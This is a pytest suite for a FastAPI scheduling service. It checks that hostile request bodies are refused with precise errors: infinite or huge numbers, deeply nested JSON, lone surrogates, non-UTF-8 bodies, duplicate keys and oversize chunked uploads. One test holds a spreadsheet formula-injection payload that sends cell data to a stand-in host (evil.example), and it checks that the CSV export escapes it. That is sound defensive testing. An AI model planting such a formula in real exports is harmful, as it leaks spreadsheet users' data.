"""Hostile input to the service: bodies, exports and timestamps (issue 17)."""

import csv
import io
import itertools
import json
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from api.app import create_app
from api.csvcells import cell
from api.reading import InputRoute
from api.settings import Settings
from models import Scenario
from models.scenario import MAX_MINUTES
from scheduler.instance.travel import TravelTable

TUTORIAL: dict[str, Any] = json.loads(
    (Path(__file__).resolve().parent.parent / "scenarios" / "tutorial.json").read_text())


@pytest.fixture
def client(database_url: str) -> Iterator[TestClient]:
    settings = Settings(database_url=database_url, max_body_bytes=200_000, require_keys=False,
                        solve_workers=1)
    with TestClient(create_app(settings)) as c:
        yield c


def _moments(body: Any) -> Iterator[str]:
    """Every string value of a JSON body under a key naming a moment (`at`, `*_at`)."""
    if isinstance(body, dict):
        for key, value in body.items():
            if isinstance(value, str) and (key == "at" or key.endswith("_at")):
                yield value
            else:
                yield from _moments(value)
    elif isinstance(body, list):
        for item in body:
            yield from _moments(item)


def test_timestamps_read_back_carry_a_time_zone(client: TestClient) -> None:
    """Moments read back from the database (SQLite keeps no zone) still carry one, as the
    declared date-time format requires: scenarios, jobs, rosters and the audit trail."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    job = client.post("/jobs", json={"scenario_id": sid, "seconds": 2}).json()
    client.app.state.runner.wait_for(job["id"], {"done"}, 60)  # type: ignore[attr-defined]
    roster_id = client.get(f"/jobs/{job['id']}").json()["roster_id"]
    bodies = [client.get(url).json() for url in (
        f"/scenarios/{sid}", "/scenarios", f"/jobs/{job['id']}", f"/rosters/{roster_id}",
        "/audit")]
    moments = [m for body in bodies for m in _moments(body)]
    assert len(moments) >= 6
    for moment in moments:
        assert datetime.fromisoformat(moment).tzinfo is not None, moment


def _raw_post(client: TestClient, url: str, text: str, media: str = "application/json") -> Any:
    """POST a JSON text as it is, saying it is `media`: Infinity and 1e309 are what a
    hostile client can send."""
    return client.post(url, content=text.encode(), headers={"content-type": media})


# How clients send JSON: as such, as text, and as curl -d sends it without a header.
MEDIA = ["application/json", "text/plain; charset=utf-8", "application/x-www-form-urlencoded",
         "Application/JSON; charset=UTF-8"]


@pytest.mark.parametrize(("where", "value", "path", "ident"), [
    ("capacity", "Infinity", "prosecutors[0].capacity", "wang"),
    ("capacity", "1e309", "prosecutors[0].capacity", "wang"),
    ("capacity", "NaN", "prosecutors[0].capacity", "wang"),
    ("capacity", "1e-9", "prosecutors[0].capacity", "wang"),
    ("speed", "1e-9", "policy.speed_kmh", None),
    ("speed", "1e-6", "policy.speed_kmh", None),
    ("priority", "1e30", "cases[0].priority", "fraud"),
    ("travel", "1e300", "policy.weights.travel", None),
    ("minutes", "1e12", "roads[0].minutes", "hailar-ewenki"),
    ("capacity", "9" * 5000, "prosecutors[0].capacity", "wang"),  # past Python's int digits
])
def test_huge_or_infinite_numbers_are_refused_with_the_field_path(
        client: TestClient, where: str, value: str, path: str, ident: str | None) -> None:
    """A non-finite or out-of-range number anywhere in a scenario is a 422 naming the
    field and the item's id; nothing is stored (before, it was stored, and every solve of
    it failed with an OverflowError)."""
    data = json.loads(json.dumps(TUTORIAL))
    marker = 123456.789
    if where == "capacity":
        data["prosecutors"][0]["capacity"] = marker
    elif where == "priority":
        data["cases"][0]["priority"] = marker
    elif where == "travel":
        data["policy"] = {"weights": {"travel": marker}}
    elif where == "speed":
        data["policy"] = {"speed_kmh": marker}
    else:
        data["roads"] = [{"a": "hailar", "b": "ewenki", "minutes": marker}]
    answer = _raw_post(client, "/scenarios", json.dumps(data).replace(str(marker), value))
    assert answer.status_code == 422, answer.text
    assert any(p["path"] == path and p["id"] == ident for p in answer.json()["errors"]), \
        answer.json()["errors"]
    assert client.get("/scenarios").json()["total"] == 0


@pytest.mark.parametrize(("field", "value"), [("seed", "1180591620717411303424"),
                                              ("seed", "-1"), ("seconds", "Infinity"),
                                              ("seconds", "NaN")])
def test_solve_requests_with_numbers_out_of_range_are_422(client: TestClient, field: str,
                                                          value: str) -> None:
    """A seed beyond CP-SAT's 32 bits (2**70) or a non-finite time limit is refused with
    the field's path, not accepted and failed later."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    body = json.dumps({"scenario_id": sid, field: 7}).replace(": 7", f": {value}")
    answer = _raw_post(client, "/jobs", body)
    assert answer.status_code == 422, answer.text
    assert [p["path"] for p in answer.json()["errors"]] == [field]


@pytest.mark.parametrize(("field", "value", "code"), [
    ("seconds", "true", "invalid.number"), ("seconds", '"10"', "invalid.number"),
    ("seed", "1.0", "invalid.whole"), ("seed", "true", "invalid.whole"),
    ("alternatives", '"2"', "invalid.whole"), ("robust", '"yes"', "invalid.bool")])
def test_solve_requests_take_no_guessed_numbers(client: TestClient, field: str, value: str,
                                                code: str) -> None:
    """A flag or text where a request's number or flag belongs is refused with the field's
    path: pydantic would have run the job for 1 s on `"seconds": true`."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    body = json.dumps({"scenario_id": sid, field: 7}).replace(": 7", f": {value}")
    answer = _raw_post(client, "/jobs", body)
    assert answer.status_code == 422, answer.text
    assert [(p["path"], p["code"]) for p in answer.json()["errors"]] == [(field, code)]


@pytest.mark.parametrize(("url", "body", "field"), [
    ("/jobs", {"secnds": 5}, "secnds"), ("/jobs", {"workers": "abc"}, "workers"),
    ("/scenarios/{sid}/cases/fraud/roster", {"seed": 5}, "seed")])
def test_request_bodies_refuse_unknown_fields(client: TestClient, url: str,
                                              body: dict[str, Any], field: str) -> None:
    """A field a request body does not have is refused on its path, not ignored: a
    misspelt `secnds` ran the job at the default 10 s, and a single case's roster took no
    seed in its body without a word."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    answer = client.post(url.format(sid=sid), json={"scenario_id": sid, **body}
                         if url == "/jobs" else body)
    assert answer.status_code == 422, answer.text
    assert [(p["path"], p["code"]) for p in answer.json()["errors"]] == [(field, "invalid.extra")]


def test_request_errors_name_list_items_as_scenarios_do(client: TestClient) -> None:
    """A bad item of a request's list is named `cases[0]`, as a scenario's problems are,
    not `cases.0` (two styles in one service, an outside tester's finding)."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    answer = client.post("/jobs", json={"scenario_id": sid, "cases": ["fraud", 7]})
    assert answer.status_code == 422, answer.text
    assert [p["path"] for p in answer.json()["errors"]] == ["cases[1]"]


def test_a_seed_python_cannot_read_names_its_field(client: TestClient) -> None:
    """A 5,000-digit seed (past what Python reads as an integer) is a 422 naming `seed`,
    in the reader's language, its digits cut short (it was a 400 naming no field: FastAPI
    read the body itself); the same body with a seed of 7 is taken."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    body = json.dumps({"scenario_id": sid, "seed": 7}).replace(": 7", ": " + "9" * 5000)
    answer = client.post("/jobs", content=body, headers={"content-type": "application/json",
                                                         "accept-language": "zh"})
    assert answer.status_code == 422, answer.text
    [error] = answer.json()["errors"]
    assert error["path"] == "seed", error
    assert "999999999999…9999" in error["message"] and "inf" not in error["message"], error
    answer = client.post("/jobs", content=body.replace("9" * 5000, "7"),
                         headers={"content-type": "application/json"})
    assert answer.status_code == 202, answer.text


def test_a_body_nested_past_the_parser_is_a_400(client: TestClient) -> None:
    """A scenario whose name is 50,000 nested lists (Python's JSON parser gives up near
    1,000 levels with a RecursionError) is refused as invalid JSON, not a 500."""
    body = '{"name": ' + "[" * 50_000 + "]" * 50_000 + "}"
    answer = client.post("/scenarios", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 400, answer.text
    assert answer.json()["detail"] == "the body is not valid JSON"


def test_a_replacement_with_a_number_of_thousands_of_digits_names_the_field(
        client: TestClient) -> None:
    """PUT reads its scenario as POST does: a capacity of 5,000 digits is a 422 naming the
    field and the id (it was a 400 naming none, FastAPI reading the body itself), and the
    stored version stands."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    tag = client.get(f"/scenarios/{sid}").headers["ETag"]
    data = json.loads(json.dumps(TUTORIAL))
    data["prosecutors"][0]["capacity"] = 123456.789
    body = json.dumps(data).replace("123456.789", "9" * 5000)
    answer = client.put(f"/scenarios/{sid}", content=body,
                        headers={"content-type": "application/json", "If-Match": tag})
    assert answer.status_code == 422, answer.text
    assert any(p["path"] == "prosecutors[0].capacity" and p["id"] == "wang"
               for p in answer.json()["errors"]), answer.json()["errors"]
    assert client.get(f"/scenarios/{sid}").headers["ETag"] == tag


def test_oversize_body_sent_in_chunks_is_413(client: TestClient) -> None:
    """A body over max_body_bytes sent chunked, without Content-Length, gets 413 like a
    declared one (before, the app's body reader turned the cut-off into a 400)."""

    def chunks() -> Iterator[bytes]:
        yield b'{"name": "'
        for _ in range(40):
            yield b"x" * 10_000
        yield b'"}'

    answer = client.post("/scenarios", content=chunks(),
                         headers={"content-type": "application/json"})
    assert answer.status_code == 413, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert client.get("/scenarios").json()["total"] == 0


def test_csv_export_escapes_cells_a_spreadsheet_would_run(client: TestClient) -> None:
    """A reason of '=HYPERLINK(...)' (or starting with +, - or @) is exported with a
    leading apostrophe, so a spreadsheet shows it as text instead of running it."""
    reasons = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
               "plain"]
    for reason in reasons:
        client.post("/scenarios", json=TUTORIAL, params={"reason": reason})
    rows = list(csv.DictReader(io.StringIO(client.get("/audit/export.csv").text)))
    assert [r["reason"] for r in rows] == ["'" + r for r in reasons[:-1]] + ["plain"]
    assert all(not r["actor"].startswith(("=", "+", "-", "@")) for r in rows)


def test_csv_cells_keep_numbers_and_plain_text() -> None:
    """Only text that would start a formula is changed: numbers (negative ones too), None
    and ordinary text are written as they are (batch's assignments.csv uses the same)."""
    assert [cell(v) for v in (-3, 2.5, None, "Wang Lei", "=1", "\tx")] == [
        -3, 2.5, None, "Wang Lei", "'=1", "'\tx"]


@pytest.mark.parametrize("roads", [False, True])
def test_travel_minutes_never_pass_the_documented_cap(roads: bool) -> None:
    """At the slowest speed allowed, or over a chain of long road legs, travel minutes
    stay within 10,000: the model's coefficients are sized for that (before, a speed of
    1e-6 km/h gave 1.9e14 minutes and 1e-9 crashed the solve with a 500)."""
    data = json.loads(json.dumps(TUTORIAL))
    data["policy"] = {"speed_kmh": 1}
    units = [u["id"] for u in data["units"]]
    data["units"][-1]["location"] = {"lat": -45.0, "lon": -60.0}  # half a world away
    data["roads"] = [{"a": a, "b": b, "minutes": 9_999}
                     for a, b in itertools.pairwise(units)] if roads else []
    scenario = Scenario.model_validate(data)
    table = TravelTable(scenario, units)
    minutes = [table.minutes(a, b) for a in units for b in units]
    assert max(m for m in minutes if m is not None) == MAX_MINUTES


def _with_lone_surrogate(text: str, value: str) -> str:
    """`text` with the JSON string "value" replaced by one holding a lone surrogate."""
    assert f'"{value}"' in text
    return text.replace(f'"{value}"', '"bad \\ud800"', 1)


@pytest.mark.parametrize("media", MEDIA)
@pytest.mark.parametrize("where", ["scenario name", "job cases", "job scenario_id"])
def test_a_lone_surrogate_is_a_422_naming_the_field(client: TestClient, where: str,
                                                    media: str) -> None:
    """JSON may carry a lone UTF-16 surrogate, which no column or answer can encode as
    UTF-8: it is refused with the path of the string, not stored and failed with a 500
    (tester's finding 5), whatever media type the body says it is, in any case (a
    scenario sent as text/plain was stored unchecked; a body sent as Application/JSON
    passed the check and failed with a 500)."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    if where == "scenario name":
        url, body, path = "/scenarios", _with_lone_surrogate(json.dumps(TUTORIAL),
                                                             TUTORIAL["name"]), "name"
    elif where == "job cases":
        url, path = "/jobs", "cases[0]"
        body = _with_lone_surrogate(json.dumps({"scenario_id": sid, "cases": ["fraud"]}),
                                    "fraud")
    else:
        url, path = "/jobs", "scenario_id"
        body = _with_lone_surrogate(json.dumps({"scenario_id": sid}), sid)
    answer = _raw_post(client, url, body, media)
    assert answer.status_code == 422, answer.text
    assert [p["path"] for p in answer.json()["errors"]] == [path]
    assert client.get("/scenarios").json()["total"] == 1


@pytest.mark.parametrize("media", MEDIA[1:])
def test_a_json_body_is_read_whatever_its_media_type(client: TestClient, media: str) -> None:
    """A job sent as text, as a form or as JSON in capitals is taken as the same JSON would
    be (FastAPI read the first two as bytes: a 422 showing b'...'), and one with a bad seed
    refused at `seed`, as scenarios sent so always were."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    answer = _raw_post(client, "/jobs", json.dumps({"scenario_id": sid}), media)
    assert answer.status_code == 202, answer.text
    answer = _raw_post(client, "/jobs", json.dumps({"scenario_id": sid, "seed": -1}), media)
    assert answer.status_code == 422, answer.text
    assert [p["path"] for p in answer.json()["errors"]] == ["seed"]
    answer = _raw_post(client, "/scenarios", json.dumps(TUTORIAL), media)
    assert answer.status_code == 201, answer.text


def test_a_surrogate_pair_is_still_text(client: TestClient) -> None:
    """An emoji written as an escaped surrogate pair is ordinary text and is kept."""
    body = json.dumps(TUTORIAL | {"name": "PLACEHOLDER"}).replace(
        "PLACEHOLDER", "\\ud83d\\ude00 plan")
    answer = _raw_post(client, "/scenarios", body)
    assert answer.status_code == 201, answer.text
    assert answer.json()["name"] == "\U0001F600 plan"


@pytest.mark.parametrize(("field", "path", "ident"), [
    ("name", "name", None),
    ("case id", "cases[0].id", None),
    ("unit id", "units[0].id", None),
])
def test_names_and_ids_longer_than_their_columns_are_422(client: TestClient, field: str,
                                                         path: str, ident: str | None) -> None:
    """A scenario name or an id over 200 characters (the width of the database columns
    that keep them) is refused with its path on every database, instead of being stored on
    SQLite and failing with a 500 on PostgreSQL (tester's finding 5)."""
    data = json.loads(json.dumps(TUTORIAL))
    long = "x" * 201
    if field == "name":
        data["name"] = long
    elif field == "case id":
        data["cases"][0]["id"] = long
    else:
        data["units"][0]["id"] = long
    answer = client.post("/scenarios", json=data)
    assert answer.status_code == 422, answer.text
    assert path in [p["path"] for p in answer.json()["errors"]], answer.json()["errors"]
    assert client.get("/scenarios").json()["total"] == 0


def test_a_body_that_is_not_utf8_is_a_worded_400(client: TestClient) -> None:
    """A job body with a byte that is no UTF-8 (JSON is UTF-8) is a 400 in the reader's
    language, saying why, not FastAPI's English words."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    body = json.dumps({"scenario_id": sid, "seed": 7}).encode().replace(b"7", b"\xff")
    answer = client.post("/jobs", content=body, headers={"content-type": "application/json",
                                                         "accept-language": "zh"})
    assert answer.status_code == 400, answer.text
    assert answer.json()["detail"] == "无法把请求体读作JSON（例如其中有不是UTF-8的字节）"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-16-le"])
def test_a_body_in_another_unicode_encoding_is_refused(client: TestClient,
                                                       encoding: str) -> None:
    """JSON is UTF-8: a scenario sent in UTF-16 or UTF-32 (with or without a byte order
    mark) is a 400 and nothing is stored, where Python's reader took it."""
    body = json.dumps(TUTORIAL).encode(encoding)
    answer = client.post("/scenarios", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 400, answer.text
    assert client.get("/scenarios").json()["items"] == []


def test_a_long_number_where_an_object_goes_is_refused_there(client: TestClient) -> None:
    """A job whose `keep` (an object) is a 5,000-digit number is refused at `keep`, not
    taken for a `keep` with every field at its default (pydantic, validating from
    attributes as FastAPI asks, took such a number for an object with no attributes)."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    body = json.dumps({"scenario_id": sid, "keep": 7}).replace(": 7", ": " + "9" * 5000)
    answer = client.post("/jobs", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 422, answer.text
    assert [p["path"] for p in answer.json()["errors"]] == ["keep"]


def test_malformed_json_is_placed_by_line_and_column_in_the_readers_words(
        client: TestClient) -> None:
    """A job body cut short on its second line, or nested past the parser, is a 400 whose
    problem says where, by line and column, all in Chinese when asked: the parser's
    English account ("Expecting value", "nested too deeply") is not passed on."""
    cut = client.post("/jobs", content='{"scenario_id":\n  "x", "seed": }',
                      headers={"content-type": "application/json", "accept-language": "zh"})
    assert cut.status_code == 400, cut.text
    [error] = cut.json()["errors"]
    assert error["path"] == "$"
    assert error["message"] == "不是有效的JSON：第2行第16列有语法错误", error
    deep = client.post("/jobs", content='{"seed": ' + "[" * 50_000 + "]" * 50_000 + "}",
                       headers={"content-type": "application/json", "accept-language": "zh"})
    assert deep.status_code == 400, deep.text
    [error] = deep.json()["errors"]
    assert error["message"].startswith("不是有效的JSON：第1行第"), error
    assert not any(c.isascii() and c.isalpha() for c in error["message"].replace("JSON", ""))


def test_a_long_number_inside_a_list_is_shown_by_its_digits(client: TestClient) -> None:
    """A 5,000-digit number nested in a list where a case id goes: the problem's value
    shows it by its first and last digits, not as "inf" (what Python's float prints)."""
    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
    body = json.dumps({"scenario_id": sid, "cases": [[7]]}).replace("7]", "9" * 5000 + "]")
    answer = client.post("/jobs", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 422, answer.text
    [error] = answer.json()["errors"]
    assert error["path"] == "cases[0]" and error["params"]["value"] == "[999999999999…9999]", error


@pytest.mark.parametrize("body", ['{"name": "x",\n  "units": [}', "[" * 100_000])
def test_a_malformed_scenario_is_placed_by_line_and_column(client: TestClient,
                                                           body: str) -> None:
    """A scenario cut short on its second line, or nested past the parser, is a 400 whose
    problem says where by line and column, as for a job's body (the scenario routes read
    their bodies themselves and said only that the body is not valid JSON)."""
    answer = client.post("/scenarios", content=body,
                         headers={"content-type": "application/json", "accept-language": "zh"})
    assert answer.status_code == 400, answer.text
    [error] = answer.json()["errors"]
    assert error["code"] == "invalid.json_at" and error["params"]["line"] >= 1, error
    assert client.get("/scenarios").json()["items"] == []


def test_every_route_with_a_body_reads_it_as_scenario_files_are(tmp_path: Path) -> None:
    """Every API route that takes a JSON body reads it with `models.validation.read_json`
    (`api.reading`): a router made without that route class would read a 5,000-digit
    number with Python's reader, which refuses it naming no field."""
    app = create_app(Settings(database_url=f"sqlite:///{tmp_path / 'x.db'}"))
    found, routes = list(app.routes), []
    while found:
        route = found.pop()
        # FastAPI keeps an included router whole, as one route that holds it.
        found += getattr(getattr(route, "original_router", None), "routes", [])
        if isinstance(route, APIRoute) and route.body_field is not None:
            routes.append(route)
    assert routes and all(isinstance(r, InputRoute) for r in routes), [
        r.path for r in routes if not isinstance(r, InputRoute)]


@pytest.mark.parametrize("media", MEDIA)
def test_a_key_named_twice_is_a_422_at_the_key(client: TestClient, media: str) -> None:
    """A scenario naming `units` twice, and a job naming `seed` twice: each a 422 at the
    key, under every media type a client sends JSON as; nothing stored."""
    scenario = _raw_post(client, "/scenarios", '{"name": "x", "units": [], "units": []}', media)
    assert scenario.status_code == 422
    assert [(e["path"], e["code"]) for e in scenario.json()["errors"]] == [
        ("units", "invalid.key_repeated")]
    job = _raw_post(client, "/jobs", '{"scenario_id": "s", "seed": 1, "seed": 2}', media)
    assert job.status_code == 422
    assert [(e["path"], e["code"]) for e in job.json()["errors"]] == [("seed", "invalid.key_repeated")]
    assert client.get("/scenarios").json()["total"] == 0


@pytest.mark.parametrize("url", ["/scenarios", "/jobs"])
def test_a_key_named_twice_with_a_lone_surrogate_is_a_422_showing_it_escaped(
        client: TestClient, url: str) -> None:
    """A key "\\ud800" named twice: a 422 at its escape, not a 500 from writing the key
    into the answer (an outside tester's find); nothing stored."""
    answer = _raw_post(client, url, '{"\\ud800": 1, "\\ud800": 2}')
    assert answer.status_code == 422
    assert [(e["path"], e["code"]) for e in answer.json()["errors"]] == [
        ("\\ud800", "invalid.key_repeated")]
    assert client.get("/scenarios").json()["total"] == 0


def test_validating_a_scenario_with_a_key_named_twice_reports_it(client: TestClient) -> None:
    """POST /scenarios/validate reports a key named twice as a problem (200, not valid),
    as it reports every other problem of a scenario, not as a 422."""
    answer = _raw_post(client, "/scenarios/validate", '{"name": "x", "units": [], "units": []}')
    assert answer.status_code == 200
    report = answer.json()
    assert not report["valid"]
    assert [(p["path"], p["code"]) for p in report["problems"]] == [("units", "invalid.key_repeated")]
